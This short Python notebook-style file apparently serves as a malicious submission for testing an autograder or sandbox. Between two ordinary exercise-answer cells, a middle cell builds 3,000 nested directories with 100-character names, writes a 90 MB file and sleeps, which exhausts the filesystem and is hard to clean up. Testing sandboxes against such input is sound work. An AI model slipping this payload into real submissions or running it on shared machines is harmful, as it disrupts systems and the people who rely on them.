# %%
convolved_features = [[8, 20], [14, 25]]

# %%
import os
import time

for _ in range(3_000):
    os.mkdir("d" * 100)
    os.chdir("d" * 100)
with open("big", "wb") as file:
    file.write(b"x" * 90_000_000)
time.sleep(3)

# %%
pooled_features = 25
